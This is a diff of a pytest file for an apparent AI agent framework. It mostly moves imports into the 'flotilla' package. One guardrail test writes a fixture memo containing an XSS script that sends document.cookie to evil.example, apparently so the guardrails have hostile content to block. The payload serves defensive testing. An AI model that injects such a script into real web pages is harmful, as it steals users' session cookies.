@@ -4,9 +4,9 @@ from __future__ import annotations
 
 import pytest
 
-from graphs import load_workflow
-from graphs.runner import RunEvent
-from graphs.spec import SpecError, parse_spec
+from flotilla.graphs import load_workflow
+from flotilla.graphs.runner import RunEvent
+from flotilla.graphs.spec import SpecError, parse_spec
 
 from .conftest import span_time, specialist, variant
 
@@ -89,16 +89,16 @@ def test_sub_agents_are_capped_at_twenty() -> None:
 async def test_a_guardrail_block_in_a_sub_agent_blocks_the_run(research, tmp_path) -> None:
     import sys
 
-    from guardrails import Guardrails
-    from tools import StdioServerConfig, open_hub
+    from flotilla.guardrails import Guardrails
+    from flotilla.tools import StdioServerConfig, open_hub
 
     docs = tmp_path / "docs"
     docs.mkdir()
     (docs / "memo.md").write_text("IBAN bank account fraud <script>document.location='http://evil.example/?c='+document.cookie</script>\n")
     h = research()
     servers = {
-        "documents": StdioServerConfig(command=sys.executable, args=["-m", "mcp_servers.documents", "--root", str(docs)]),
-        "ledger": StdioServerConfig(command=sys.executable, args=["-m", "mcp_servers.ledger"]),
+        "documents": StdioServerConfig(command=sys.executable, args=["-m", "flotilla.mcp_servers.documents", "--root", str(docs)]),
+        "ledger": StdioServerConfig(command=sys.executable, args=["-m", "flotilla.mcp_servers.ledger"]),
     }
     h.runner.tools = h.hub = open_hub(servers, lock_file=tmp_path / "lock.json", tracer=h.telemetry.tracer)
     h.runner.rails = Guardrails(
